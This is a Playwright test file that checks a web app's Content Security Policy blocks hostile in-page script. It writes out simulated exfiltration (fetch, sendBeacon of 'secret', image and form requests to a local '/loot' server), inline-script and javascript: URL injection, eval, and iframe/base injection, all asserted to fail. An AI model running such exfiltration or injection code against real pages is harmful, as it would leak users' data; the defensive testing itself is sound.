/** @file A hostile script in the page can neither send data out, navigate away, nor load other scripts. */

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './story.ts';

/** A foreign server that counts its requests. */
async function openStranger() {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('got it');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // The server listens on a port, so the address is neither a pipe's name nor null.
  const { port } = server.address() as AddressInfo;
  return {
    requests,
    address: `http://127.0.0.1:${port}/loot`,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Waits until an attempt has violated these directives of the policy: each is reported later than it is attempted. */
async function expectViolations(page: Page, directives: readonly string[], attempt: () => Promise<unknown>) {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  });
  await attempt();
  const seen = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  await expect.poll(seen).toEqual(expect.arrayContaining([...directives]));
}

test('a script in the page sends nothing out, runs no text, and frames nothing', { tag: '@desktop' }, async ({
  page,
}) => {
  const welcome = page.getByRole('heading', { name: 'Welcome to Tranship' });
  await expect(welcome).toBeVisible();
  await using stranger = await openStranger();
  await test.step('it sends nothing to another origin', async () => {
    await expectViolations(page, ['connect-src', 'img-src', 'form-action'], () =>
      page.evaluate(async (address) => {
        await fetch(address).catch(() => {});
        navigator.sendBeacon(address, 'secret');
        await new Promise((resolve) => {
          const image = new Image();
          image.onload = image.onerror = resolve;
          image.src = address;
        });
        const form = document.body.appendChild(document.createElement('form'));
        form.action = address;
        form.target = '_blank';
        form.submit();
      }, stranger.address),
    );
  });
  await test.step('it runs no script that is inserted as text', async () => {
    await expectViolations(page, ['script-src-elem', 'script-src-attr', 'style-src-elem'], () =>
      page.evaluate(() => {
        const inline = document.createElement('script');
        inline.textContent = 'window.hacked = true';
        document.body.append(inline);
        const handler = document.createElement('div');
        handler.setAttribute('onclick', 'window.hacked = true');
        document.body.append(handler);
        handler.click();
        const styled = document.createElement('style');
        styled.textContent = 'body { display: none }';
        document.head.append(styled);
        const link = document.body.appendChild(document.createElement('a'));
        link.href = 'javascript:window.hacked = true';
        link.click();
      }),
    );
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    await expect(welcome).toBeVisible();
  });
  await test.step('it does not evaluate text as code', async () => {
    // From a timer of the page itself, because a driver's evaluation is exempt from the policy.
    const outcome = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          setTimeout(() => {
            try {
              // biome-ignore lint/security/noGlobalEval: the test expects this to fail.
              resolve(`ran: ${globalThis.eval('1 + 1')}`);
            } catch (thrown) {
              resolve(String(thrown));
            }
          });
        }),
    );
    expect(outcome).toMatch(/EvalError|unsafe-eval|Content Security Policy/);
  });
  await test.step('it frames no other page, and gets no base of another origin', async () => {
    await expectViolations(page, ['base-uri', 'frame-src'], () =>
      page.evaluate((address) => {
        const base = document.createElement('base');
        base.href = address;
        document.head.append(base);
        const frame = document.createElement('iframe');
        frame.src = address;
        document.body.append(frame);
      }, stranger.address),
    );
    expect(stranger.requests).toEqual([]);
  });
});
